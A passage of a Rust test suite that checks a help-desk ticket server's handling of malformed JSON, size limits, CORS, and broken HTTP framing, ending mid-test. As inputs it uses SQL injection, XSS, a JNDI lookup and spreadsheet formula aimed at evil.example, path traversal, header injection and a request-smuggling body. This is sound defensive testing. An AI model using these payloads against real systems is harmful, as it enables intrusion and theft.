//! Whatever is sent, the server answers rightly or refuses plainly, and goes on serving everybody else.
//!
//! Source: the Mesa de Ayuda contract (errors, CORS, limits); RFC 9110 and RFC 9112 for what is no good HTTP.

#![cfg(feature = "cli")]

#[expect(dead_code, reason = "these tests need a part of it")]
mod common;

use std::{
    path::Path,
    time::{Duration, Instant},
};

use serde_json::{Value, json};
use tokio::time::sleep;

use self::common::{
    http::{Answer, Connection, Request},
    program::{Desk, Server},
    seed, seed_with,
};

const BODY_OCTETS_MAX: usize = 1 << 20;

/// Every POST endpoint, with the fields that it cannot do without.
const POSTS: [(&str, &[&str]); 3] = [
    ("/api/tickets/crear", &["nombre", "email", "tipo", "categoria", "descripcion", "prioridad"]),
    ("/api/tickets/consultar", &["label", "email"]),
    ("/api/tickets/comentar", &["label", "email", "mensaje"]),
];

/// A body that the endpoint takes, be it with 404.
fn good_body(path: &str) -> Value {
    match path {
        "/api/tickets/crear" => seed(),
        _ => json!({ "label": "TKT-2026-00001", "email": "nadie@example.com", "mensaje": "¿Alguna novedad?" }),
    }
}

/// What the endpoint answers to [`good_body`].
fn good_status(path: &str) -> u16 {
    if path == "/api/tickets/crear" { 200 } else { 404 }
}

fn pairs<'a>(fields: impl IntoIterator<Item = &'a str>, code: &str) -> Vec<(String, String)> {
    fields.into_iter().map(|field| (field.to_owned(), code.to_owned())).collect()
}

/// Asserts that the server still works.
async fn still_serves(server: &Server) {
    let mut client = server.connect().await;
    assert_eq!(client.get("/livez").await.status, 200);
    let created = client.post("/api/tickets/crear", &seed()).await.ok();
    let form = json!({ "label": created["ticketLabel"], "email": seed()["email"] });
    assert_eq!(client.post("/api/tickets/consultar", &form).await.status, 200);
}

/// Creates a ticket and answers what its requester sees of it.
async fn round_trip(client: &mut Connection, form: &Value) -> Value {
    let created = client.post("/api/tickets/crear", form).await.ok();
    let look_up = json!({ "label": created["ticketLabel"], "email": form["email"] });
    client.post("/api/tickets/consultar", &look_up).await.ok()
}

// Bodies

#[tokio::test]
async fn a_body_that_is_no_json_is_refused_with_line_and_column() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for (path, _) in POSTS {
        for (body, line, column) in [
            (&b""[..], 1, 0),
            (b"{", 1, 1),
            (b"{\n  \"email\": \"ana@example.com\",\n  \"label\": \"TKT", 3, 15),
            (b"{\"email\": \"a\"} x", 1, 16),
            (b"{\"email\": \"a\",}", 1, 15),
            (b"{'email': 1}", 1, 2),
            (b"email=ana%40example.com", 1, 1),
            (b"NaN", 1, 1),
            (b"\x00", 1, 1),
            (b"<script>alert(1)</script>", 1, 1),
            // Not UTF-8: a lone continuation byte, an encoded surrogate, an overlong slash, Latin-1.
            (b"{\"email\":\n \"\xff\"}", 2, 3),
            (b"{\"email\": \"\xed\xa0\x80\"}", 1, 12),
            (b"{\"email\": \"\xc0\xaf\"}", 1, 12),
            (b"{\"email\": \"Mu\xf1oz\"}", 1, 14),
        ] {
            let shown = String::from_utf8_lossy(body);
            let problem = client.ask(&Request::post(path, body)).await.problem(400, "malformed-json");
            let detail = problem["detail"].as_str().unwrap();
            assert!(detail.contains(&format!("línea {line}, columna {column}")), "{path}: {shown}: {detail}");
        }
        let request = Request::post(path, "{").header("Accept-Language", "en");
        let problem = client.ask(&request).await.problem(400, "malformed-json");
        assert_eq!(problem["detail"], "The body is not valid JSON: line 1, column 1.");
    }
}

#[tokio::test]
async fn an_empty_object_is_told_everything_that_it_lacks() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for (path, required) in POSTS {
        assert_eq!(client.post(path, &json!({})).await.violations(), pairs(required.iter().copied(), "required"));
    }
}

#[tokio::test]
async fn json_that_is_no_object_is_one_violation_of_the_whole_body() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for (path, _) in POSTS {
        for body in ["[]", "[{}]", "null", "true", "0", "1e999", "\"{}\""] {
            let answer = client.ask(&Request::post(path, body)).await;
            assert_eq!(answer.violations(), [(String::new(), "wrong-type".to_owned())], "{path}: {body}");
            assert_eq!(answer.json()["errors"][0]["params"], json!({ "expected": "object" }));
        }
    }
}

#[tokio::test]
async fn each_wrong_value_is_reported_in_the_order_of_the_fields() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    // In another order than the fields'.
    let form = json!({
        "areaAsignada": 7, "asunto": "dos\nlíneas", "subcategoria": [], "empresaDepartamento": {}, "tieneWhatsapp": "true",
        "telefono": "\u{0}", "documento": 12_345_678, "prioridad": "x".repeat(21), "descripcion": "corta",
        "categoria": "\t", "tipo": "incidente", "email": "ana@localhost", "nombre": ["Ana"],
    });
    let answer = client.post("/api/tickets/crear", &form).await;
    let expected = [
        ("nombre", "wrong-type", json!({ "expected": "string" })),
        ("email", "invalid-email", json!({ "reason": "domain-without-dot" })),
        ("tipo", "unknown-value", Value::Null),
        ("categoria", "required", json!({})),
        ("descripcion", "too-short", json!({ "min": 10, "actual": 5 })),
        ("prioridad", "too-long", json!({ "max": 20, "actual": 21 })),
        ("documento", "wrong-type", json!({ "expected": "string" })),
        ("telefono", "control-character", json!({ "position": 1 })),
        ("tieneWhatsapp", "wrong-type", json!({ "expected": "boolean" })),
        ("empresaDepartamento", "wrong-type", json!({ "expected": "string" })),
        ("subcategoria", "wrong-type", json!({ "expected": "string" })),
        ("asunto", "control-character", json!({ "position": 4 })),
        ("areaAsignada", "wrong-type", json!({ "expected": "string" })),
    ];
    let found = answer.violations();
    assert_eq!(found.len(), expected.len(), "{answer}");
    for ((index, found), (field, code, params)) in found.iter().enumerate().zip(expected) {
        assert_eq!((found.0.as_str(), found.1.as_str()), (field, code));
        if !params.is_null() {
            assert_eq!(answer.json()["errors"][index]["params"], params, "{field}");
        }
    }
    let allowed = &answer.json()["errors"][2]["params"]["allowed"];
    assert_eq!(allowed.as_array().map(Vec::len), Some(7), "{allowed}");

    for (path, fields) in &POSTS[1..] {
        let form = json!({ "mensaje": true, "email": { "a": 1 }, "label": 142 });
        assert_eq!(client.post(path, &form).await.violations(), pairs(fields.iter().copied(), "wrong-type"));
    }
}

#[tokio::test]
async fn half_a_surrogate_pair_and_a_repeated_member_are_violations_of_their_field() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for (path, _) in POSTS {
        let good = good_body(path);
        let mut members: Vec<_> =
            good.as_object().unwrap().iter().map(|(name, value)| format!("\"{name}\":{value}")).collect();
        members.retain(|member| !member.starts_with("\"email\""));
        let with = |email: &str| format!("{{{},{email}}}", members.join(","));
        for (email, code) in [
            (r#""email":"ana\ud800@example.com""#, "invalid-unicode"),
            (r#""email":"\udc00\ud800""#, "invalid-unicode"),
            (r#""email":"a@example.com","email":"a@example.com""#, "repeated"),
            (r#""email":"a@example.com","\u0065mail":null"#, "repeated"),
        ] {
            let answer = client.ask(&Request::post(path, with(email))).await;
            assert_eq!(answer.violations(), pairs(["email"], code), "{path}: {email}");
        }
        // A pair is a character.
        let answer = client.ask(&Request::post(path, with(r#""email":"\ud83e\udd80@example.com""#))).await;
        assert!(answer.status != 400 && answer.status < 500, "{answer}");
    }
}

#[tokio::test]
async fn members_that_nobody_asked_for_are_ignored_and_null_is_nothing() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for (path, _) in POSTS {
        let good = good_body(path).to_string();
        let others =
            r#""\ud800":"\ud800","__proto__":{"a":[1e999,null]},"id":1,"id":2,"estado":"CERRADO","ticketUuid":0"#;
        let answer = client.ask(&Request::post(path, format!("{{{others},{}", &good[1..]))).await;
        assert_eq!(answer.status, good_status(path), "{answer}");
    }
    let nulls = json!({
        "documento": null, "telefono": null, "tieneWhatsapp": null, "empresaDepartamento": null, "subcategoria": null,
        "asunto": null, "areaAsignada": null, "estado": "CERRADO", "ticketNum": 77,
    });
    let found = round_trip(&mut client, &seed_with(&nulls)).await;
    assert_eq!(
        (&found["asunto"], &found["tieneWhatsapp"], &found["areaAsignada"]),
        (&Value::Null, &json!(false), &json!("MESA"))
    );
    assert_eq!(found["estadoNombre"], "ABIERTO");
}

#[tokio::test]
async fn deep_wide_and_large_json_is_read_without_harm() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    let half = BODY_OCTETS_MAX / 2 - 20;
    for (path, _) in POSTS {
        let open = client.ask(&Request::post(path, "[".repeat(BODY_OCTETS_MAX))).await;
        open.problem(400, "malformed-json");
        let objects = client.ask(&Request::post(path, "{\"a\":".repeat(BODY_OCTETS_MAX / 5))).await;
        objects.problem(400, "malformed-json");
        let deep = format!("{{\"email\":{}{}}}", "[".repeat(half), "]".repeat(half));
        assert!(
            client.ask(&Request::post(path, deep)).await.violations().contains(&("email".into(), "wrong-type".into()))
        );
        let wide = format!("{{{}\"z\":0}}", "\"a\":0,".repeat(BODY_OCTETS_MAX / 6 - 2));
        assert_eq!(client.ask(&Request::post(path, wide)).await.status, 422);
        let number = format!("{{\"email\":{}}}", "9".repeat(BODY_OCTETS_MAX - 11));
        assert_eq!(client.ask(&Request::post(path, number)).await.status, 422);
        let text = format!("{{\"email\":\"{}\"}}", "é".repeat(half));
        assert!(client.ask(&Request::post(path, text)).await.violations().iter().any(|(field, _)| field == "email"));
    }
    still_serves(&server).await;
}

#[tokio::test]
async fn the_longest_texts_are_kept_and_one_character_more_is_refused() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for (field, shown_as, max) in [
        ("nombre", "solicitanteNombre", 150),
        ("categoria", "categoria", 100),
        ("prioridad", "prioridadNombre", 20),
        ("documento", "documento", 50),
        ("telefono", "solicitanteTel", 30),
        ("empresaDepartamento", "empresaDepartamento", 150),
        ("subcategoria", "subcategoria", 100),
        ("asunto", "asunto", 200),
        ("areaAsignada", "areaAsignada", 100),
        ("descripcion", "descripcionProblema", 100_000),
    ] {
        let longest = "🦀".repeat(max);
        let found = round_trip(&mut client, &seed_with(&json!({ field: longest }))).await;
        assert!(found[shown_as] == longest, "{field}");
        let answer = client.post("/api/tickets/crear", &seed_with(&json!({ field: format!("{longest}x") }))).await;
        assert_eq!(answer.violations(), pairs([field], "too-long"));
    }
}

/// A POST whose body comes in chunks of 100 000 octets.
fn chunked(path: &str, body: &str) -> Request {
    let mut chunks = Vec::new();
    for chunk in body.as_bytes().chunks(100_000) {
        chunks.extend(format!("{:x}\r\n", chunk.len()).into_bytes());
        chunks.extend(chunk);
        chunks.extend(b"\r\n");
    }
    chunks.extend(b"0\r\n\r\n");
    let request = Request::new("POST", path).header("Content-Type", "application/json");
    request.header("Transfer-Encoding", "chunked").body(chunks)
}

#[tokio::test]
async fn a_body_of_one_mebibyte_is_taken_and_one_octet_more_is_not() {
    let desk = Desk::new();
    let server = desk.serve();
    for (path, _) in POSTS {
        let good = good_body(path).to_string();
        let padded = |octets: usize| format!("{good}{}", " ".repeat(octets - good.len()));
        let (largest, too_large) = (padded(BODY_OCTETS_MAX), padded(BODY_OCTETS_MAX + 1));
        let mut client = server.connect().await;
        for request in [Request::post(path, largest.clone()), chunked(path, &largest)] {
            assert_eq!(client.ask(&request).await.status, good_status(path));
        }
        for request in [Request::post(path, too_large.clone()), chunked(path, &too_large)] {
            let answer = server.connect().await.ask(&request).await;
            assert!(answer.problem(413, "body-too-large")["detail"].as_str().unwrap().contains("1024 KiB"));
        }
        // What is announced need not be sent to be refused.
        let announced = Request::new("POST", path).header("Content-Type", "application/json");
        client.send(announced.header("Content-Length", "1099511627776").head()).await;
        client.answer().await.problem(413, "body-too-large");
    }
    still_serves(&server).await;
}

#[tokio::test]
async fn only_plain_utf8_json_is_taken() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for (path, _) in POSTS {
        let body = good_body(path).to_string();
        let post = || Request::post_as(path, body.clone());
        client.ask(&post()).await.problem(415, "unsupported-media-type");
        for wrong in [
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/jsonp",
            "application/json+x",
            "application / json",
            "application/json; charset=iso-8859-1",
            "application/json; charset=utf-16",
            "",
            "json",
            "*/*",
            "application/\u{ff}json",
        ] {
            let answer = client.ask(&post().header("Content-Type", wrong)).await;
            assert_eq!(answer.problem(415, "unsupported-media-type")["status"], 415, "{wrong}");
        }
        for right in [
            "application/json",
            "APPLICATION/JSON",
            "application/json;charset=UTF-8",
            "application/json; charset=\"utf-8\"",
            "application/json ; version=1",
        ] {
            let answer = client.ask(&post().header("Content-Type", right)).await;
            assert_eq!(answer.status, good_status(path), "{right}");
        }
        for encoding in ["gzip", "br", "gzip, identity", "x"] {
            let request = Request::post(path, body.clone()).header("Content-Encoding", encoding);
            client.ask(&request).await.problem(415, "unsupported-media-type");
        }
        let request = Request::post(path, body.clone()).header("Content-Encoding", "identity");
        assert_eq!(client.ask(&request).await.status, good_status(path));
    }
}

// Texts

#[tokio::test]
async fn texts_come_back_exactly_as_they_were_given() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for text in [
        "'; DROP TABLE tickets; --",
        "\" OR \"1\"=\"1\" UNION SELECT * FROM intake",
        "Robert'); DELETE FROM events WHERE ('1'='1",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>&amp;&#60;",
        "{{7*7}} ${jndi:ldap://evil.example/a} %{1+1} #{x}",
        "=HYPERLINK(\"http://evil.example\")",
        "..\\..\\..\\..\\etc\\passwd /../../etc/passwd",
        "%00%0d%0aSet-Cookie: a=b \\u0000 \\r\\n",
        "null",
        "undefined",
        "NaN",
        "true",
        "-1e308",
        "\u{202e}txt.exe\u{202c} שלום עליכם مرحبا",
        "👩‍👩‍👧‍👦 🏳️‍🌈 🇨🇴 👍🏽 e\u{301}\u{327} Z̸̢̛a̷̧l̵g̴o̵",
        "\u{feff}con marca\u{200b}de\u{2060}orden\u{ad}",
        "ﬁ Å Å ß ẞ İ ı ǆ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ｆｕｌｌ",
        "\u{fffd}\u{fffe}\u{10ffff}\u{e000}",
        "日本語 漢字 한국어 ไทย हिन्दी ᚠᛇᚻ",
        "a\u{a0}b\u{2003}c\u{3000}d\u{2028}e\u{2029}f",
    ] {
        let form = seed_with(&json!({
            "nombre": text, "categoria": text, "subcategoria": text, "asunto": text, "empresaDepartamento": text,
            "areaAsignada": text, "descripcion": format!("Descripción: {text}"),
        }));
        let found = round_trip(&mut client, &form).await;
        for name in ["solicitanteNombre", "categoria", "subcategoria", "asunto", "empresaDepartamento", "areaAsignada"]
        {
            assert_eq!(found[name], text, "{name}");
        }
        assert_eq!(found["descripcionProblema"], format!("Descripción: {text}"));
        assert_eq!(found["ultimoActorNombre"], text);

        let comment = json!({ "label": found["ticketLabel"], "email": form["email"], "mensaje": text });
        client.post("/api/tickets/comentar", &comment).await.ok();
        let look_up = json!({ "label": found["ticketLabel"], "email": form["email"] });
        assert_eq!(client.post("/api/tickets/consultar", &look_up).await.ok()["ultimoMotivo"], text);
    }
    // The same, escaped as JSON may be.
    let mut body = seed().to_string();
    body = body.replace("Ana García", r"\u0041n\u0061 \ud83e\udd80 \/ \\ \u0022");
    let created = client.ask(&Request::post("/api/tickets/crear", body)).await.ok();
    let look_up = json!({ "label": created["ticketLabel"], "email": seed()["email"] });
    let found = client.post("/api/tickets/consultar", &look_up).await.ok();
    assert_eq!(found["solicitanteNombre"], "Ana 🦀 / \\ \"");
}

#[tokio::test]
async fn line_breaks_are_kept_where_lines_may_be_and_break_no_header_anywhere() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    let injected = "hola\r\nSet-Cookie: session=evil\r\n\r\n<html>";
    let found = round_trip(&mut client, &seed_with(&json!({ "descripcion": injected }))).await;
    assert_eq!(found["descripcionProblema"], injected);

    for field in ["nombre", "categoria", "prioridad", "telefono", "documento", "asunto", "areaAsignada"] {
        let text = if field == "prioridad" || field == "telefono" { "a\r\nX: y" } else { injected };
        let answer = client.post("/api/tickets/crear", &seed_with(&json!({ field: text }))).await;
        assert_eq!(answer.violations(), pairs([field], "control-character"));
        assert_eq!(answer.header("set-cookie"), None);
    }
    let answer =
        client.post("/api/tickets/crear", &seed_with(&json!({ "email": "a@b.example\r\nBcc: c@d.example" }))).await;
    assert_eq!(answer.violations(), pairs(["email"], "invalid-email"));
    for control in ["\u{0}", "\u{1b}[31m", "\u{7f}", "\u{85}", "\u{8}"] {
        let text = format!("texto con {control} dentro");
        let answer = client.post("/api/tickets/crear", &seed_with(&json!({ "descripcion": text }))).await;
        assert_eq!(answer.violations(), pairs(["descripcion"], "control-character"));
    }
}

// Paths and methods

#[tokio::test]
async fn a_method_that_a_path_does_not_take_is_told_those_it_does() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for (path, _) in POSTS {
        for method in ["GET", "HEAD", "PUT", "PATCH", "DELETE", "TRACE", "BREW", "post"] {
            let answer = client.ask(&Request::new(method, path)).await;
            assert_eq!(answer.status, 405, "{method} {path}");
            assert_eq!(answer.header("allow"), Some("POST, OPTIONS"));
            if method != "HEAD" {
                answer.problem(405, "method-not-allowed");
            }
        }
    }
    for path in ["/api/reglas", "/livez", "/readyz", "/metrics", "/openapi.json"] {
        let answer = client.ask(&Request::post(path, "{}")).await;
        answer.problem(405, "method-not-allowed");
        assert_eq!(answer.header("allow"), Some("GET, HEAD, OPTIONS"));
    }
}

#[tokio::test]
async fn a_path_is_taken_as_it_is_written() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    let body = seed().to_string();
    for path in [
        "/nada",
        "/api",
        "/api/tickets",
        "/api/../api/tickets/crear",
        "/api/./tickets/crear",
        "//api/tickets/crear",
        "/api//tickets/crear",
        "/api/tickets/crear//",
        "/api%2ftickets%2fcrear",
        "/api/tickets/cre%61r",
        "/api/tickets/crear%00",
        "/api/tickets/crear%2f",
        "/api/tickets/crear;a=b",
        "/API/TICKETS/CREAR",
        "/api/tickets/crear.json",
        "/..%2f..%2fetc/passwd",
        "/{*path}",
        "/api/tickets/{accion}",
        "/%",
        "/%zz",
        "/\u{1F980}",
    ] {
        let answer = client.ask(&Request::post(path, body.clone())).await;
        answer.problem(404, "not-found");
    }
    for path in [
        "/api/tickets/crear/",
        "/api/tickets/crear?x=/../y",
        "/api/tickets/crear/?",
        "http://desk.example/api/tickets/crear",
    ] {
        assert_eq!(client.ask(&Request::post(path, body.clone())).await.status, 200, "{path}");
    }
    for path in ["/livez/", "/api/reglas/", "/readyz/?a"] {
        assert_eq!(client.get(path).await.status, 200, "{path}");
    }
}

#[tokio::test]
async fn head_is_get_without_a_body() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for path in ["/livez", "/readyz", "/api/reglas"] {
        let get = client.get(path).await;
        let head = client.ask(&Request::new("HEAD", path)).await;
        assert_eq!((head.status, head.header("content-type")), (200, get.header("content-type")));
        assert_eq!(head.header("content-length"), get.header("content-length"), "{path}");
        assert_eq!(head.header("etag"), get.header("etag"));
    }
    assert_eq!(client.ask(&Request::new("HEAD", "/nada")).await.status, 404);
    // Nothing of a body has come between.
    assert_eq!(client.get("/livez").await.body, b"ok\n");
}

// Browsers

const OWN_ORIGIN: &str = "http://localhost:5173";
const FOREIGN_ORIGIN: &str = "https://evil.example";

fn lists(answer: &Answer, header: &str, names: &[&str]) {
    let list = answer.header(header).unwrap_or_else(|| panic!("{header}: {answer}")).to_ascii_lowercase();
    let listed: Vec<_> = list.split(',').map(str::trim).collect();
    for name in names {
        assert!(listed.contains(&name.to_ascii_lowercase().as_str()), "{name} in {header}: {list}");
    }
}

#[tokio::test]
async fn a_preflight_is_answered_to_those_who_may_call() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    let preflight = |path: &str, origin: &str| {
        let request = Request::new("OPTIONS", path).header("Origin", origin);
        let request = request.header("Access-Control-Request-Method", "POST");
        request.header("Access-Control-Request-Headers", "content-type,idempotency-key")
    };
    for path in ["/api/tickets/crear", "/api/tickets/crear/", "/api/tickets/consultar", "/api/reglas"] {
        let answer = client.ask(&preflight(path, OWN_ORIGIN)).await;
        assert!(matches!(answer.status, 200 | 204), "{answer}");
        assert_eq!(answer.header("access-control-allow-origin"), Some(OWN_ORIGIN));
        lists(&answer, "access-control-allow-methods", &["GET", "POST", "PUT", "PATCH", "DELETE"]);
        let allowed = [
            "Authorization",
            "Content-Type",
            "X-API-TOKEN",
            "Idempotency-Key",
            "If-Match",
            "Accept-Language",
            "Last-Event-ID",
        ];
        lists(&answer, "access-control-allow-headers", &allowed);
        lists(&answer, "vary", &["origin"]);

        for origin in [
            FOREIGN_ORIGIN,
            "null",
            "http://localhost.evil.example",
            "https://localhost:5173",
            "http://localhost:5173.evil.example",
        ] {
            let answer = client.ask(&preflight(path, origin)).await;
            assert_eq!(answer.header("access-control-allow-origin"), None, "{origin}: {answer}");
        }
    }
}

#[tokio::test]
async fn every_answer_tells_a_browser_who_may_read_it() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    let good = seed().to_string();
    let long = "x".repeat(BODY_OCTETS_MAX + 1);
    for origin in [OWN_ORIGIN, FOREIGN_ORIGIN] {
        for (request, status) in [
            (Request::post("/api/tickets/crear", good.clone()), 200),
            (Request::post("/api/tickets/crear", "{"), 400),
            (Request::post("/api/tickets/crear", good.clone()).header("Idempotency-Key", ""), 400),
            (Request::post("/api/tickets/crear", "{}"), 422),
            (Request::post("/api/tickets/consultar", good_body("").to_string()), 404),
            (Request::new("GET", "/nada"), 404),
            (Request::new("PUT", "/api/tickets/crear"), 405),
            (Request::post_as("/api/tickets/crear", "{}"), 415),
            (Request::new("GET", "/api/reglas"), 200),
            // The last one: the connection ends with it.
            (Request::post("/api/tickets/crear", long.clone()), 413),
        ] {
            let answer = client.ask(&request.header("Origin", origin)).await;
            assert_eq!(answer.status, status, "{answer}");
            if origin == OWN_ORIGIN {
                assert_eq!(answer.header("access-control-allow-origin"), Some(OWN_ORIGIN), "{answer}");
                let exposed =
                    ["ETag", "Link", "Location", "Retry-After", "RateLimit", "x-total", "x-page", "x-page-size"];
                lists(&answer, "access-control-expose-headers", &exposed);
            } else {
                assert_eq!(answer.header("access-control-allow-origin"), None, "{answer}");
            }
            if status >= 400 {
                assert_eq!(answer.header("content-type"), Some("application/problem+json"));
            }
            assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
            assert!(answer.header("x-request-id").is_some());
        }
        client = server.connect().await;
    }
}

// The protocol

#[tokio::test]
async fn heads_that_are_too_large_are_refused_and_the_server_goes_on() {
    let desk = Desk::new();
    let server = desk.serve();
    let huge = "x".repeat(2 << 20);
    let many = "X-A: b\r\n".repeat(10_000);
    for head in [
        format!("GET /livez HTTP/1.1\r\nHost: a\r\nX-Huge: {huge}\r\n\r\n"),
        format!("GET /livez HTTP/1.1\r\nHost: a\r\n{huge}: x\r\n\r\n"),
        format!("GET /livez HTTP/1.1\r\nHost: a\r\n{many}\r\n"),
        format!("GET /livez HTTP/1.1\r\nHost: a\r\nCookie: {}\r\n{many}\r\n", "y".repeat(100_000)),
    ] {
        let mut client = server.connect().await;
        // It need not read all of it.
        let _ = client.try_send(head).await;
        assert_eq!(client.answer().await.status, 431);
        client.is_closed().await;
    }
    let mut client = server.connect().await;
    let _ = client.try_send(format!("GET /{} HTTP/1.1\r\nHost: a\r\n\r\n", "x".repeat(100_000))).await;
    assert!(matches!(client.answer().await.status, 414 | 431));

    // What browsers send at most is taken.
    let request = Request::new("GET", "/livez").header("Cookie", &"y".repeat(16_000));
    assert_eq!(server.connect().await.ask(&request).await.status, 200);
    still_serves(&server).await;
}

#[tokio::test]
async fn what_is_no_http_is_refused_and_the_server_goes_on() {
    let desk = Desk::new();
    let server = desk.serve();
    for octets in [
        &b"\r\n\r\nGARBAGE\r\n\r\n"[..],
        b"GET\r\n\r\n",
        b"GET /livez\r\n\r\n",
        b"GET /livez HTTP/9.9\r\n\r\n",
        b"GET /livez HTTP/2.0\r\n\r\n",
        b"GET  /livez HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /li vez HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /livez HTTP/1.1\r\nHost : a\r\n\r\n",
        b"GET /livez HTTP/1.1\r\nHost: a\r\nX: \x00\r\n\r\n",
        b"GET /livez HTTP/1.1\r\nHost: a\r\nX: a\r\n folded: b\r\n\r\n",
        b"GET /livez HTTP/1.1\r\nHost: a\r\n: b\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 a TLS hello \r\n\r\n",
        b"POST /api/tickets/crear HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
        b"POST /api/tickets/crear HTTP/1.1\r\nHost: a\r\nContent-Length: +2\r\n\r\n{}",
        b"POST /api/tickets/crear HTTP/1.1\r\nHost: a\r\nContent-Length: 2, 3\r\n\r\n{}",
        b"POST /api/tickets/crear HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}",
        b"POST /api/tickets/crear HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999\r\n\r\n{}",
        b"POST /api/tickets/crear HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip\r\n\r\n{}",
        b"POST /api/tickets/crear HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    ] {
        let mut client = server.connect().await;
        client.send(octets).await;
        let shown = String::from_utf8_lossy(octets);
        let answer = client.try_answer().await.unwrap().unwrap_or_else(|| panic!("no answer to {shown}"));
        assert!((400..500).contains(&answer.status), "{shown}: {answer}");
        client.is_closed().await;
    }
    still_serves(&server).await;
}

#[tokio::test]
async fn a_chunked_body_that_is_broken_is_refused() {
    let desk = Desk::new();
    let server = desk.serve();
    for chunks in [
        "zz\r\n{}\r\n0\r\n\r\n",
        "2\r\n{}x\r\n0\r\n\r\n",
        "ffffffffffffffffff\r\n{}",
        "-2\r\n{}\r\n0\r\n\r\n",
        "\r\n\r\n",
    ] {
        let mut client = server.connect().await;
        let request = Request::new("POST", "/api/tickets/crear").header("Content-Type", "application/json");
        client.send(request.header("Transfer-Encoding", "chunked").body(chunks).octets()).await;
        client.answer().await.problem(400, "body-incomplete");
        client.is_closed().await;
    }
    // One with extensions and trailers is not.
    let mut client = server.connect().await;
    let request = Request::new("POST", "/api/tickets/crear").header("Content-Type", "application/json");
    let chunks = "1;a=\"b\"\r\n{\r\n1\r\n}\r\n0\r\nX-Trailer: y\r\n\r\n";
    let answer = client.ask(&request.header("Transfer-Encoding", "chunked").body(chunks)).await;
    assert_eq!(answer.violations().len(), 6);
    still_serves(&server).await;
}

/// Source: RFC 9112, section 6.1: the length that is announced beside chunks must not hide a second request.
#[tokio::test]
async fn a_request_cannot_be_smuggled_in_anothers_body() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    let hidden = "0\r\n\r\nGET /metrics HTTP/1.1\r\nHost: a\r\n\r\n";
    let request = Request::new("POST", "/api/tickets/crear").header("Content-Type", "application/json");
    let request = request.header("Content-Length", &hidden.len().to_string()).header("Transfer-Encoding", "chunked");
    client.send(request.body(hidden).octets()).await;
    let answer = client.answer().await;
    assert_eq!(answer.status, 400, "{answer}");
    client.is_closed().await;
    still_serves(&server).await;
}

#[tokio::test]
async fn a_head_that_comes_octet_by_octet_is_read() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for octet in Request::post("/api/tickets/crear", seed().to_string()).octets() {
        client.send([octet]).await;
    }
    client.answer().await.ok();
}

#[tokio::test]
async fn those_who_are_slow_do_not_keep_others_waiting() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut slow = Vec::new();
    for number in 0..300 {
        let mut client = server.connect().await;
        let request = Request::post("/api/tickets/crear", seed().to_string()).octets();
        // Nothing, half a head, a head, half a body.
        let sent = [0, 20, request.len() / 3, request.len() - 20][number % 4];
        client.send(&request[..sent]).await;
        slow.push((client, request[sent..].to_vec()));
    }
    let mut client = server.connect().await;
    for _ in 0..20 {
        let began = Instant::now();
        client.post("/api/tickets/crear", &seed()).await.ok();
        assert!(began.elapsed() < Duration::from_secs(3), "{:?}", began.elapsed());
    }
    // And they are answered as soon as they have said everything.
    for (client, rest) in &mut slow {
        client.send(rest).await;
    }
    for (client, _) in &mut slow {
        client.answer().await.ok();
    }
}

#[tokio::test]
async fn a_body_that_does_not_come_is_given_up() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    let request = Request::post("/api/tickets/crear", seed().to_string()).octets();
    client.send(&request[..request.len() - 1]).await;
    client.answer().await.problem(408, "body-timeout");
    client.is_closed().await;
    still_serves(&server).await;
}

#[tokio::test]
async fn requests_that_come_all_at_once_are_all_answered_in_turn() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    let mut octets = Vec::new();
    for number in 0..200 {
        let request = match number % 4 {
            0 => Request::new("GET", "/livez"),
            1 => Request::post("/api/tickets/crear", seed().to_string()),
            2 => Request::post("/api/tickets/crear", "{}"),
            _ => Request::new("GET", "/nada"),
        };
        octets.extend(request.octets());
    }
    client.send(octets).await;
    for number in 0..200 {
        let answer = client.answer().await;
        assert_eq!(answer.status, [200, 200, 422, 404][number % 4], "{number}: {answer}");
        if number % 4 == 1 {
            let suffix = format!("-{:05}", number / 4 + 1);
            assert!(answer.json()["ticketLabel"].as_str().unwrap().ends_with(&suffix), "{answer}");
        }
    }
}

#[tokio::test]
async fn an_answer_does_not_wait_for_the_rest_of_the_next_request() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
